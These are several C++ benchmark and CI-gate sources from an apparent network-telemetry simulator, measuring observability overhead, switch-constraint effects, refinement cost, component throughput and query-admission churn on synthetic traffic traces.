      const auto t1 = std::chrono::steady_clock::now();
      best_off = std::min(best_off, std::chrono::duration<double>(t1 - t0).count());
      if (rep == 0) windows_off = std::move(w);
    }
    {
      obs::set_enabled(true);
      obs::Registry::global().reset_values();
      runtime::Runtime rt(plan, kBatch);
      const auto t0 = std::chrono::steady_clock::now();
      auto w = rt.run_trace(trace);
      const auto t1 = std::chrono::steady_clock::now();
      best_on = std::min(best_on, std::chrono::duration<double>(t1 - t0).count());
      if (rep == 0) windows_on = std::move(w);
      obs::set_enabled(false);
    }
  }

  const double pps_off = static_cast<double>(trace.size()) / best_off;
  const double pps_on = static_cast<double>(trace.size()) / best_on;
  const double overhead_pct = (pps_off - pps_on) / pps_off * 100.0;
  const bool identical = identical_windows(windows_off, windows_on);
  const bool overhead_ok = overhead_pct < kMaxOverheadPct;

  bench::print_table(
      {"metrics", "packets/sec", "seconds", "overhead", "bit-identical"},
      {{"disabled", std::to_string(static_cast<std::uint64_t>(pps_off)),
        std::to_string(best_off), "-", "-"},
       {"enabled", std::to_string(static_cast<std::uint64_t>(pps_on)),
        std::to_string(best_on),
        std::to_string(overhead_pct).substr(0, 5) + "%", identical ? "yes" : "NO"}});

  std::ofstream json("BENCH_obs.json");
  char buf[512];
  std::snprintf(buf, sizeof buf,
                "{\n  \"bench\": \"obs_overhead\",\n  \"packets\": %zu,\n"
                "  \"reps\": %d,\n  \"batch\": %zu,\n"
                "  \"pps_disabled\": %.0f,\n  \"pps_enabled\": %.0f,\n"
                "  \"overhead_pct\": %.3f,\n  \"threshold_pct\": %.1f,\n"
                "  \"identical\": %s,\n  \"pass\": %s\n}\n",
                trace.size(), kReps, kBatch, pps_off, pps_on, overhead_pct,
                kMaxOverheadPct, identical ? "true" : "false",
                overhead_ok && identical ? "true" : "false");
  json << buf;
  std::printf("\nWrote BENCH_obs.json\n");

  if (!identical) {
    std::printf("FAIL: windows differ with metrics enabled\n");
    return 1;
  }
  if (!overhead_ok) {
    std::printf("FAIL: overhead %.3f%% exceeds %.1f%% budget\n", overhead_pct, kMaxOverheadPct);
    return 1;
  }
  std::printf("PASS: overhead %.3f%% < %.1f%% budget, windows bit-identical\n", overhead_pct,
              kMaxOverheadPct);
  return 0;
}
