// Extension benchmark + regression gate: observability overhead (DESIGN.md
// "Observability").
//
// The obs subsystem promises that enabling the metrics registry costs the
// data path less than 2% of packets/sec on the serial single-switch driver
// (threads=0, batch=256 — the configuration where per-packet work dominates
// and there is no thread-level slack to hide the cost in). The design that
// makes this hold: hot loops keep plain single-writer tallies and publish
// them to the registry once per window, so the per-packet delta between
// enabled and disabled is a handful of plain increments either way.
//
// Three sides, interleaved rep by rep so machine load drift hits all
// equally; best-of-N per side:
//   disabled  everything off (baseline)
//   metrics   registry enabled (the original gate)
//   full      registry + event journal + report-latency stamping + a live
//             introspection endpoint being scraped while the trace replays
//             — the complete ISSUE-8 surface a production run would carry
// Asserts (a) both overheads < 2% vs disabled and (b) windows are
// bit-identical across all three sides. Exits nonzero on violation, so CI
// can use it as a gate. Results land in BENCH_obs.json.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <fstream>
#include <string>
#include <thread>
#include <vector>

#include "common.h"
#include "obs/http.h"
#include "obs/journal.h"
#include "obs/metrics.h"
#include "obs/tracing.h"
#include "runtime/runtime.h"

using namespace sonata;

namespace {

bool identical_windows(const std::vector<runtime::WindowStats>& a,
                       const std::vector<runtime::WindowStats>& b) {
  if (a.size() != b.size()) return false;
  for (std::size_t w = 0; w < a.size(); ++w) {
    if (a[w].packets != b[w].packets || a[w].tuples_to_sp != b[w].tuples_to_sp ||
        a[w].raw_mirror_packets != b[w].raw_mirror_packets ||
        a[w].overflow_records != b[w].overflow_records ||
        a[w].results.size() != b[w].results.size()) {
      return false;
    }
    for (std::size_t r = 0; r < a[w].results.size(); ++r) {
      if (a[w].results[r].qid != b[w].results[r].qid ||
          !(a[w].results[r].outputs == b[w].results[r].outputs)) {
        return false;
      }
    }
    if (!(a[w].winners == b[w].winners)) return false;
  }
  return true;
}

// One GET against the local introspection endpoint, response discarded.
void scrape_once(std::uint16_t port, const char* target) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return;
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(port);
  inet_pton(AF_INET, "127.0.0.1", &addr.sin_addr);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) == 0) {
    std::string req = std::string("GET ") + target + " HTTP/1.1\r\nHost: localhost\r\n\r\n";
    (void)::send(fd, req.data(), req.size(), 0);
    char buf[4096];
    while (::read(fd, buf, sizeof(buf)) > 0) {
    }
  }
  ::close(fd);
}

}  // namespace

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  constexpr int kReps = 7;
  constexpr std::size_t kBatch = 256;
  constexpr double kMaxOverheadPct = 2.0;

  // Same data-path-focused workload as ext_datapath_throughput: one long
  // window, one light query, so per-packet cost dominates and the gate
  // actually exercises the instrumented hot path.
  trace::BackgroundConfig bg;
  bg.duration_sec = 15.0;
  bg.flows_per_sec = 600.0 * opts.scale;
  const auto trace = trace::TraceBuilder(opts.seed).background(bg).build();

  queries::Thresholds th;
  std::vector<query::Query> qs;
  qs.push_back(queries::make_newly_opened_tcp(th, util::seconds(30)));

  planner::PlannerConfig cfg;
  cfg.mode = planner::PlanMode::kMaxDP;
  cfg.window = util::seconds(30);
  const auto plan = planner::Planner(cfg).plan(qs, trace);

  std::printf("Observability overhead gate: serial runtime, batch=%zu, %zu packets, "
              "best of %d interleaved replays per side\n\n",
              kBatch, trace.size(), kReps);

  // Tracing stays off on every side: the gate is the always-on production
  // surface (metrics, journal, latency, endpoint); tracing spans are per
  // window phase, write under a mutex and have their own export path.
  obs::TraceRecorder::global().set_enabled(false);

  double best_off = 1e30;
  double best_on = 1e30;
  double best_full = 1e30;
  std::vector<runtime::WindowStats> windows_off;
  std::vector<runtime::WindowStats> windows_on;
  std::vector<runtime::WindowStats> windows_full;
  for (int rep = 0; rep < kReps; ++rep) {
    {
      obs::set_enabled(false);
      runtime::Runtime rt(plan, kBatch);
      const auto t0 = std::chrono::steady_clock::now();
      auto w = rt.run_trace(trace);
      const auto t1 = std::chrono::steady_clock::now();
      best_off = std::min(best_off, std::chrono::duration<double>(t1 - t0).count());
      if (rep == 0) windows_off = std::move(w);
    }
    {
      obs::set_enabled(true);
      obs::Registry::global().reset_values();
      runtime::Runtime rt(plan, kBatch);
      const auto t0 = std::chrono::steady_clock::now();
      auto w = rt.run_trace(trace);
      const auto t1 = std::chrono::steady_clock::now();
      best_on = std::min(best_on, std::chrono::duration<double>(t1 - t0).count());
      if (rep == 0) windows_on = std::move(w);
      obs::set_enabled(false);
    }
    {
      // Full surface: journal on, latency stamping live (implied by
      // obs::set_enabled), and a scraper hammering the endpoint from
      // another thread while the trace replays.
      obs::set_enabled(true);
      obs::Registry::global().reset_values();
      obs::Journal::global().clear();
      obs::Journal::global().set_enabled(true);
      obs::IntrospectServer server;
      const bool serving = server.start("127.0.0.1", 0).empty();
      std::atomic<bool> stop_scraper{false};
      std::thread scraper;
      if (serving) {
        scraper = std::thread([port = server.port(), &stop_scraper] {
          while (!stop_scraper.load(std::memory_order_relaxed)) {
            scrape_once(port, "/metrics");
            scrape_once(port, "/journal?n=64");
            std::this_thread::sleep_for(std::chrono::milliseconds(50));
          }
        });
      }
      runtime::Runtime rt(plan, kBatch);
      const auto t0 = std::chrono::steady_clock::now();
      auto w = rt.run_trace(trace);
      const auto t1 = std::chrono::steady_clock::now();
      stop_scraper.store(true, std::memory_order_relaxed);
      if (scraper.joinable()) scraper.join();
      server.stop();
      best_full = std::min(best_full, std::chrono::duration<double>(t1 - t0).count());
      if (rep == 0) {
        windows_full = std::move(w);
        if (!serving) std::printf("warning: introspection server failed to start\n");
      }
      obs::Journal::global().set_enabled(false);
      obs::Journal::global().clear();
      obs::set_enabled(false);
    }
  }

  const double pps_off = static_cast<double>(trace.size()) / best_off;
  const double pps_on = static_cast<double>(trace.size()) / best_on;
  const double pps_full = static_cast<double>(trace.size()) / best_full;
  const double overhead_pct = (pps_off - pps_on) / pps_off * 100.0;
  const double overhead_full_pct = (pps_off - pps_full) / pps_off * 100.0;
  const bool identical =
      identical_windows(windows_off, windows_on) && identical_windows(windows_off, windows_full);
  const bool overhead_ok = overhead_pct < kMaxOverheadPct;
  const bool overhead_full_ok = overhead_full_pct < kMaxOverheadPct;

  bench::print_table(
      {"surface", "packets/sec", "seconds", "overhead", "bit-identical"},
      {{"disabled", std::to_string(static_cast<std::uint64_t>(pps_off)),
        std::to_string(best_off), "-", "-"},
       {"metrics", std::to_string(static_cast<std::uint64_t>(pps_on)),
        std::to_string(best_on),
        std::to_string(overhead_pct).substr(0, 5) + "%", identical ? "yes" : "NO"},
       {"full", std::to_string(static_cast<std::uint64_t>(pps_full)),
        std::to_string(best_full),
        std::to_string(overhead_full_pct).substr(0, 5) + "%", identical ? "yes" : "NO"}});

  std::ofstream json("BENCH_obs.json");
  char buf[768];
  std::snprintf(buf, sizeof buf,
                "{\n  \"bench\": \"obs_overhead\",\n  \"hardware\": %s,\n  \"packets\": %zu,\n"
                "  \"reps\": %d,\n  \"batch\": %zu,\n"
                "  \"pps_disabled\": %.0f,\n  \"pps_enabled\": %.0f,\n"
                "  \"pps_full\": %.0f,\n"
                "  \"overhead_pct\": %.3f,\n  \"overhead_full_pct\": %.3f,\n"
                "  \"threshold_pct\": %.1f,\n"
                "  \"identical\": %s,\n  \"pass\": %s\n}\n",
                bench::hardware_json().c_str(), trace.size(), kReps, kBatch, pps_off, pps_on,
                pps_full, overhead_pct,
                overhead_full_pct, kMaxOverheadPct, identical ? "true" : "false",
                overhead_ok && overhead_full_ok && identical ? "true" : "false");
  json << buf;
  std::printf("\nWrote BENCH_obs.json\n");

  if (!identical) {
    std::printf("FAIL: windows differ across observability surfaces\n");
    return 1;
  }
  if (!overhead_ok || !overhead_full_ok) {
    std::printf("FAIL: overhead metrics=%.3f%% full=%.3f%% exceeds %.1f%% budget\n", overhead_pct,
                overhead_full_pct, kMaxOverheadPct);
    return 1;
  }
  std::printf("PASS: overhead metrics=%.3f%% full=%.3f%% < %.1f%% budget, windows bit-identical\n",
              overhead_pct, overhead_full_pct, kMaxOverheadPct);
  return 0;
}
