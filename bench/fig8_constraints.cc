// Figure 8 reproduction: effect of the four switch constraints on the load
// at the stream processor, running all eight evaluation queries under
// Max-DP, Fix-REF and Sonata (the three plans the paper sweeps).
//
//   8a: pipeline depth (stages S)          8b: stateful actions/stage (A)
//   8c: register memory per stage (B)      8d: PHV metadata size (M)
//
// Shape to match the paper: more of any resource monotonically (weakly)
// reduces load; Sonata adapts earliest (it can trade refinement levels for
// resources); Fix-REF needs the most resources before it helps.
//
// Load here is the planner's trace-driven estimate (the paper's
// methodology); one sweep point = one full plan computation.
#include <cstdio>

#include "common.h"

using namespace sonata;

namespace {

std::uint64_t plan_cost(const std::vector<query::Query>& qs,
                        const std::vector<planner::TupleWindow>& windows,
                        planner::EstimatorPool& pool, planner::PlanMode mode,
                        const pisa::SwitchConfig& sw, util::Nanos window) {
  planner::PlannerConfig cfg;
  cfg.mode = mode;
  cfg.window = window;
  cfg.switch_config = sw;
  return planner::Planner(cfg).plan_windows(qs, windows, &pool).est_total_tuples;
}

}  // namespace

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  const auto workload = bench::make_eval_workload(opts);
  const auto windows = planner::materialize_windows(workload.trace, workload.window);
  const auto queries = queries::evaluation_queries(workload.thresholds, workload.window);
  planner::EstimatorPool pool(queries, windows, {8, 16, 24}, {1, 2});

  const std::vector<planner::PlanMode> modes = {
      planner::PlanMode::kMaxDP, planner::PlanMode::kFixRef, planner::PlanMode::kSonata};

  auto sweep = [&](const char* title, const char* unit, const std::vector<double>& points,
                   auto apply) {
    std::printf("\n%s\n\n", title);
    std::vector<std::vector<std::string>> rows;
    for (const double p : points) {
      pisa::SwitchConfig sw;  // defaults: S=16, A=8, B=8 Mb, M=4 Kb
      apply(sw, p);
      char label[32];
      std::snprintf(label, sizeof label, "%g %s", p, unit);
      std::vector<std::string> row{label};
      for (const auto mode : modes) {
        row.push_back(bench::fmt_count(
            plan_cost(queries, windows, pool, mode, sw, workload.window)));
      }
      rows.push_back(std::move(row));
    }
    bench::print_table({"value", "Max-DP", "Fix-REF", "Sonata"}, rows);
  };

  std::printf("Figure 8: effect of switch constraints (est. tuples/window, 8 queries)\n");

  sweep("Figure 8a: maximum pipeline depth (stages)", "stages",
        {1, 2, 4, 8, 12, 16, 32},
        [](pisa::SwitchConfig& sw, double v) { sw.stages = static_cast<int>(v); });

  sweep("Figure 8b: maximum pipeline width (stateful actions/stage)", "actions",
        {1, 2, 4, 8, 12, 16, 32}, [](pisa::SwitchConfig& sw, double v) {
          sw.stateful_actions_per_stage = static_cast<int>(v);
        });

  sweep("Figure 8c: register memory per stage", "Mb",
        {0.5, 1, 2, 4, 8, 12, 16, 32}, [](pisa::SwitchConfig& sw, double v) {
          sw.register_bits_per_stage = static_cast<std::uint64_t>(v * 1024 * 1024);
          sw.max_bits_per_register = sw.register_bits_per_stage / 2;
        });

  sweep("Figure 8d: metadata size", "Kb", {0.25, 0.5, 1, 2, 4, 8},
        [](pisa::SwitchConfig& sw, double v) {
          sw.metadata_bits = static_cast<std::uint64_t>(v * 1024);
        });

  return 0;
}
