// Micro-benchmark: overhead of dynamic refinement (paper §6.2).
//
// The paper measures, on a Tofino, ~127 ms to update 200 filter-table
// entries and ~4 ms to reset registers — about 5% of a 3-second window.
// Our driver *models* those latencies (they gate how short W can be); this
// benchmark reports both the modeled control-plane time and the actual
// simulator CPU time for the same operations.
#include <benchmark/benchmark.h>

#include "pisa/compile.h"
#include "pisa/switch.h"
#include "query/field.h"
#include "query/query.h"

using namespace sonata;
using namespace query::dsl;

namespace {

std::unique_ptr<pisa::Switch> make_switch(query::Query& q) {
  auto sw = std::make_unique<pisa::Switch>(pisa::SwitchConfig{});
  pisa::CompiledSwitchQuery::Options opts;
  opts.partition = 2;
  std::vector<std::unique_ptr<pisa::CompiledSwitchQuery>> progs;
  progs.push_back(std::make_unique<pisa::CompiledSwitchQuery>(*q.sources()[0], opts));
  const auto err =
      sw->install(std::move(progs), {pisa::build_resources(*q.sources()[0], 2, {}, 1, 0, 32)});
  if (!err.empty()) std::abort();
  return sw;
}

query::Query filter_query() {
  auto q = query::QueryBuilder::packet_stream()
               .filter_in({query::Expr::ip_prefix(col("dIP"), 8)}, "ref")
               .map({{"dIP", col("dIP")}})
               .build("bench", 1);
  if (!q.validate().empty()) std::abort();
  return q;
}

void BM_FilterTableUpdate(benchmark::State& state) {
  auto q = filter_query();
  auto sw = make_switch(q);
  const auto entries = static_cast<std::size_t>(state.range(0));
  std::vector<query::Tuple> winners;
  for (std::size_t i = 0; i < entries; ++i) {
    winners.push_back(query::Tuple{{query::Value{std::uint64_t{i} << 24}}});
  }
  for (auto _ : state) {
    benchmark::DoNotOptimize(sw->update_filter_entries("ref", winners));
  }
  state.counters["modeled_ms"] =
      pisa::Switch::kMillisPerEntryUpdate * static_cast<double>(entries);
  state.counters["entries"] = static_cast<double>(entries);
}
BENCHMARK(BM_FilterTableUpdate)->Arg(10)->Arg(50)->Arg(100)->Arg(200)->Arg(400);

void BM_RegisterReset(benchmark::State& state) {
  auto q = query::QueryBuilder::packet_stream()
               .map({{"dIP", col("dIP")}, {"c", lit(1)}})
               .reduce({"dIP"}, query::ReduceFn::kSum, "c")
               .build("bench2", 2);
  if (!q.validate().empty()) std::abort();
  pisa::CompiledSwitchQuery::Options opts;
  opts.partition = 2;
  opts.sizing[1] = {.entries = static_cast<std::size_t>(state.range(0)), .depth = 2};
  pisa::CompiledSwitchQuery prog(*q.sources()[0], opts);
  // Populate some state so reset has work to do.
  for (std::uint64_t i = 0; i < 1000; ++i) {
    auto t = query::materialize_tuple(net::Packet::tcp(0, 1, static_cast<std::uint32_t>(i), 2,
                                                       3, 0, 40));
    benchmark::DoNotOptimize(prog.process(t));
  }
  for (auto _ : state) {
    prog.reset_registers();
  }
  state.counters["modeled_ms"] = pisa::Switch::kMillisPerRegisterReset;
}
BENCHMARK(BM_RegisterReset)->Arg(1024)->Arg(16384)->Arg(131072);

}  // namespace

BENCHMARK_MAIN();
