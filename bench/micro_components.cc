// Component micro-benchmarks: per-packet costs of the simulator's moving
// parts (parser/materialization, switch pipelines, register chains, stream
// operators, expression evaluation) and the planner itself. These are the
// numbers to watch when extending Sonata — regressions here make the
// figure benchmarks crawl.
#include <benchmark/benchmark.h>

#include "net/wire.h"
#include "util/ip.h"
#include "pisa/switch.h"
#include "planner/planner.h"
#include "queries/catalog.h"
#include "stream/executor.h"
#include "trace/trace.h"

using namespace sonata;

namespace {

std::vector<net::Packet> small_trace() {
  trace::BackgroundConfig bg;
  bg.duration_sec = 3.0;
  bg.flows_per_sec = 400.0;
  return trace::TraceBuilder(7).background(bg).build();
}

void BM_MaterializeTuple(benchmark::State& state) {
  const auto pkts = small_trace();
  std::size_t i = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(query::materialize_tuple(pkts[i]));
    i = (i + 1) % pkts.size();
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_MaterializeTuple);

void BM_WireSerializeParse(benchmark::State& state) {
  const auto pkts = small_trace();
  std::size_t i = 0;
  for (auto _ : state) {
    const auto frame = net::serialize(pkts[i]);
    benchmark::DoNotOptimize(net::parse(frame));
    i = (i + 1) % pkts.size();
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_WireSerializeParse);

void BM_RegisterChainUpdate(benchmark::State& state) {
  pisa::RegisterChainConfig cfg;
  cfg.entries_per_register = 65536;
  cfg.depth = static_cast<int>(state.range(0));
  pisa::RegisterChain chain(cfg);
  std::uint64_t k = 0;
  for (auto _ : state) {
    query::Tuple key{{query::Value{k++ & 0xffff}}};
    benchmark::DoNotOptimize(chain.update(key, 1, query::ReduceFn::kSum));
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_RegisterChainUpdate)->Arg(1)->Arg(2)->Arg(4);

void BM_SwitchPipeline8Queries(benchmark::State& state) {
  const auto pkts = small_trace();
  queries::Thresholds th;
  const auto qs = queries::evaluation_queries(th, util::seconds(3));

  std::vector<std::unique_ptr<pisa::CompiledSwitchQuery>> progs;
  std::vector<pisa::ProgramResources> res;
  for (const auto& q : qs) {
    int si = 0;
    for (const auto* src : q.sources()) {
      const std::size_t p = pisa::max_switch_prefix(*src);
      std::map<std::size_t, pisa::RegisterSizing> sizing;
      for (std::size_t i = 0; i < p; ++i) {
        if (src->ops[i].stateful()) sizing[i] = {.entries = 16384, .depth = 2};
      }
      pisa::CompiledSwitchQuery::Options opts;
      opts.qid = q.id();
      opts.source_index = si;
      opts.partition = p;
      opts.sizing = sizing;
      progs.push_back(std::make_unique<pisa::CompiledSwitchQuery>(*src, opts));
      res.push_back(pisa::build_resources(*src, p, sizing, q.id(), si, 32));
      ++si;
    }
  }
  pisa::SwitchConfig sw_cfg;
  sw_cfg.stateful_actions_per_stage = 32;
  pisa::Switch sw(sw_cfg);
  if (!sw.install(std::move(progs), res).empty()) std::abort();

  std::vector<query::Tuple> tuples;
  tuples.reserve(pkts.size());
  for (const auto& p : pkts) tuples.push_back(query::materialize_tuple(p));
  std::vector<pisa::EmitRecord> out;
  std::size_t i = 0;
  for (auto _ : state) {
    out.clear();
    sw.process_tuple(tuples[i], out);
    benchmark::DoNotOptimize(out.data());
    i = (i + 1) % tuples.size();
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_SwitchPipeline8Queries);

void BM_StreamExecutorQuery1(benchmark::State& state) {
  const auto pkts = small_trace();
  queries::Thresholds th;
  const auto q = queries::make_newly_opened_tcp(th, util::seconds(3));
  stream::QueryExecutor exec(q);
  std::vector<query::Tuple> tuples;
  for (const auto& p : pkts) tuples.push_back(query::materialize_tuple(p));
  std::size_t i = 0;
  for (auto _ : state) {
    exec.ingest_source_tuple(tuples[i]);
    i = (i + 1) % tuples.size();
    if (i == 0) benchmark::DoNotOptimize(exec.end_window());
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_StreamExecutorQuery1);

void BM_ExprEvaluation(benchmark::State& state) {
  using namespace query::dsl;
  const auto schema = query::source_schema();
  const auto pred = (col("proto") == lit(6) && col("tcp.flags") == lit(2));
  const auto bound = pred->bind(schema);
  const auto t = query::materialize_tuple(
      net::Packet::tcp(0, 1, 2, 3, 4, net::tcp_flags::kSyn, 40));
  for (auto _ : state) {
    benchmark::DoNotOptimize(bound(t));
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_ExprEvaluation);

void BM_PlannerSingleQuery(benchmark::State& state) {
  trace::BackgroundConfig bg;
  bg.duration_sec = 9.0;
  bg.flows_per_sec = 300.0;
  trace::TraceBuilder builder(5);
  builder.background(bg);
  trace::SynFloodConfig flood;
  flood.victim = util::ipv4(99, 1, 2, 3);
  flood.start_sec = 1.0;
  flood.duration_sec = 7.0;
  flood.pps = 1500;
  builder.add(flood);
  const auto trace = builder.build();
  const auto windows = planner::materialize_windows(trace, util::seconds(3));
  queries::Thresholds th;
  th.newly_opened = 800;
  std::vector<query::Query> qs;
  qs.push_back(queries::make_newly_opened_tcp(th, util::seconds(3)));
  planner::PlannerConfig cfg;
  for (auto _ : state) {
    benchmark::DoNotOptimize(planner::Planner(cfg).plan_windows(qs, windows));
  }
}
BENCHMARK(BM_PlannerSingleQuery)->Unit(benchmark::kMillisecond);

}  // namespace

BENCHMARK_MAIN();
