// Extension benchmark + CI admission gate: control-plane churn (DESIGN.md
// "Query control plane").
//
// Two phases, both gated:
//
//   1. Planning latency under churn: a steady set of queries is admitted,
//      then submissions/withdrawals churn the tail of the set. Every
//      mutation is planned twice — incrementally (cached installers, greedy
//      placement + certification) and from scratch (Planner::plan_windows,
//      which rebuilds every estimator by replaying the training windows).
//      Gate: the incremental total must stay under 20% of the from-scratch
//      total (a >= 5x speedup), and every mutation's incremental objective
//      must equal the from-scratch plan cost — speed never buys a worse
//      plan.
//
//   2. Runtime churn: an engine processes the whole trace while queries
//      come and go at window barriers. Gate: no dropped windows — every
//      window closes with full packet accounting (no shed/late/partial),
//      and every staged mutation lands as a plan swap at its barrier.
//
// `--smoke` shrinks the trace and the churn count for sanitizer CI jobs.
// Results land in BENCH_admission.json (CI uploads it as an artifact).
// Exits nonzero when a gate fails.
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <string>
#include <vector>

#include "common.h"
#include "planner/incremental.h"
#include "queries/catalog.h"
#include "runtime/control_plane.h"
#include "runtime/engine.h"
#include "trace/trace.h"

using namespace sonata;

namespace {

using Clock = std::chrono::steady_clock;

double ms_since(Clock::time_point t0) {
  return std::chrono::duration<double, std::milli>(Clock::now() - t0).count();
}

}  // namespace

int main(int argc, char** argv) {
  const auto opts = bench::parse_options(argc, argv);
  bool smoke = false;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--smoke") == 0) smoke = true;
  }

  trace::BackgroundConfig bg;
  bg.duration_sec = smoke ? 9.0 : 18.0;
  bg.flows_per_sec = 250.0 * opts.scale;
  const auto trace_pkts = trace::TraceBuilder(opts.seed).background(bg).build();

  const util::Nanos window = util::seconds(3);
  queries::Thresholds th;  // defaults: moderate report volume per window
  std::vector<query::Query> qs;
  qs.push_back(queries::make_newly_opened_tcp(th, window));
  qs.push_back(queries::make_ssh_brute_force(th, window));
  qs.push_back(queries::make_superspreader(th, window));
  qs.push_back(queries::make_port_scan(th, window));
  qs.push_back(queries::make_ddos(th, window));
  qs.push_back(queries::make_syn_flood(th, window));
  qs.push_back(queries::make_incomplete_flows(th, window));
  qs.push_back(queries::make_slowloris(th, window));
  const std::size_t steady = 6;  // qs[0..5] always active; qs[6..7] churn

  planner::PlannerConfig cfg;
  cfg.window = window;
  const auto windows = planner::materialize_windows(trace_pkts, window);

  std::printf("Admission churn: %zu packets, %zu training windows, %zu steady + %zu churning "
              "queries%s\n\n",
              trace_pkts.size(), windows.size(), steady, qs.size() - steady,
              smoke ? " (smoke)" : "");

  // -- phase 1: incremental vs from-scratch planning latency -------------
  planner::IncrementalPlanner inc(cfg, windows);
  std::vector<planner::AdmitId> handles(qs.size(), 0);
  for (std::size_t i = 0; i < steady; ++i) {
    auto id = inc.admit(qs[i]);
    if (!id) {
      std::printf("FAIL: steady admission rejected: %s\n", id.error().to_string().c_str());
      return 1;
    }
    handles[i] = *id;
  }

  // Mutation schedule over the churn tail: submit both, withdraw both.
  struct Mutation {
    std::size_t query;
    bool submit;
  };
  std::vector<Mutation> schedule;
  const int rounds = smoke ? 2 : 4;
  for (int r = 0; r < rounds; ++r) {
    for (std::size_t i = steady; i < qs.size(); ++i) schedule.push_back({i, true});
    for (std::size_t i = steady; i < qs.size(); ++i) schedule.push_back({i, false});
  }

  planner::Planner scratch(cfg);
  std::vector<std::size_t> active;  // admission order, indices into qs
  for (std::size_t i = 0; i < steady; ++i) active.push_back(i);

  double inc_ms = 0.0, scratch_ms = 0.0;
  std::size_t cost_mismatches = 0;
  for (const Mutation& m : schedule) {
    const auto t0 = Clock::now();
    if (m.submit) {
      auto id = inc.admit(qs[m.query]);
      if (!id) {
        std::printf("FAIL: churn admission rejected: %s\n", id.error().to_string().c_str());
        return 1;
      }
      handles[m.query] = *id;
      active.push_back(m.query);
    } else {
      if (!inc.withdraw(handles[m.query])) {
        std::printf("FAIL: withdraw of active handle rejected\n");
        return 1;
      }
      active.erase(std::find(active.begin(), active.end(), m.query));
    }
    const planner::Plan swapped = inc.snapshot_plan();
    inc_ms += ms_since(t0);

    std::vector<query::Query> set;
    for (const std::size_t idx : active) set.push_back(qs[idx]);
    const auto t1 = Clock::now();
    const planner::Plan reference = scratch.plan_windows(set, windows);
    scratch_ms += ms_since(t1);
    if (swapped.est_total_tuples != reference.est_total_tuples) {
      ++cost_mismatches;
      std::printf("COST MISMATCH after %s %s: incremental %llu vs from-scratch %llu\n",
                  m.submit ? "submit" : "withdraw", qs[m.query].name().c_str(),
                  static_cast<unsigned long long>(swapped.est_total_tuples),
                  static_cast<unsigned long long>(reference.est_total_tuples));
    }
  }
  const double ratio = scratch_ms > 0.0 ? inc_ms / scratch_ms : 1.0;
  const double speedup = inc_ms > 0.0 ? scratch_ms / inc_ms : 0.0;
  std::printf("planning: %zu mutations, incremental %.1f ms, from-scratch %.1f ms "
              "(%.1fx, ratio %.3f)\n",
              schedule.size(), inc_ms, scratch_ms, speedup, ratio);
  std::printf("solver: %llu certified incremental, %llu joint re-solves (cached estimators)\n\n",
              static_cast<unsigned long long>(inc.incremental_solves()),
              static_cast<unsigned long long>(inc.full_solves()));

  // -- phase 2: engine churn, no dropped windows -------------------------
  std::vector<query::Query> initial(qs.begin(), qs.begin() + steady);
  auto built = runtime::EngineBuilder().training(trace_pkts).admit(initial).build();
  if (!built) {
    std::printf("FAIL: engine build rejected: %s\n", built.error().to_string().c_str());
    return 1;
  }
  auto& engine = **built;

  const auto slices = trace::split_windows(trace_pkts, window);
  std::size_t staged = 0, swaps = 0, dirty_windows = 0;
  std::uint64_t packets_seen = 0, lost = 0;
  bool accounting_ok = true;
  std::vector<runtime::QueryHandle> churn_handle(qs.size(), 0);
  bool churn_active[2] = {false, false};
  for (std::size_t w = 0; w < slices.size(); ++w) {
    if (w > 0) {
      // Alternate the two churn queries in and out at every barrier.
      const std::size_t i = steady + (w % (qs.size() - steady));
      if (!churn_active[i - steady]) {
        auto id = engine.submit(qs[i]);
        if (!id) {
          std::printf("FAIL: runtime submit rejected: %s\n", id.error().to_string().c_str());
          return 1;
        }
        churn_handle[i] = *id;
      } else if (!engine.withdraw(churn_handle[i])) {
        std::printf("FAIL: runtime withdraw rejected\n");
        return 1;
      }
      churn_active[i - steady] = !churn_active[i - steady];
      ++staged;
      ++dirty_windows;
    }
    const runtime::WindowStats ws = engine.process_window(slices[w]);
    packets_seen += ws.packets;
    lost += ws.dropped_packets + ws.shed_packets + ws.late_packets;
    if (ws.partial) accounting_ok = false;
    if (ws.plan_swapped) ++swaps;
  }
  const bool windows_ok = accounting_ok && lost == 0 && packets_seen == trace_pkts.size() &&
                          swaps == dirty_windows;
  std::printf("runtime churn: %zu windows, %zu staged mutations, %zu plan swaps, "
              "%llu/%zu packets accounted, %llu lost\n",
              slices.size(), staged, swaps, static_cast<unsigned long long>(packets_seen),
              trace_pkts.size(), static_cast<unsigned long long>(lost));

  const bool latency_ok = ratio < 0.20;
  const bool cost_ok = cost_mismatches == 0;
  const bool pass = latency_ok && cost_ok && windows_ok;

  bench::print_table(
      {"gate", "status"},
      {{"incremental < 20% of from-scratch (" + std::to_string(speedup).substr(0, 4) + "x)",
        latency_ok ? "yes" : "NO"},
       {"incremental cost == from-scratch cost", cost_ok ? "yes" : "NO"},
       {"no dropped windows under churn", windows_ok ? "yes" : "NO"}});

  std::ofstream json("BENCH_admission.json");
  char buf[640];
  std::snprintf(buf, sizeof buf,
                "{\n  \"bench\": \"admission_churn\",\n  \"hardware\": %s,\n"
                "  \"smoke\": %s,\n  \"packets\": %zu,\n"
                "  \"mutations\": %zu,\n  \"incremental_ms\": %.2f,\n"
                "  \"from_scratch_ms\": %.2f,\n  \"speedup\": %.2f,\n  \"ratio\": %.4f,\n"
                "  \"cost_mismatches\": %zu,\n  \"incremental_solves\": %llu,\n"
                "  \"joint_resolves\": %llu,\n  \"windows\": %zu,\n  \"plan_swaps\": %zu,\n"
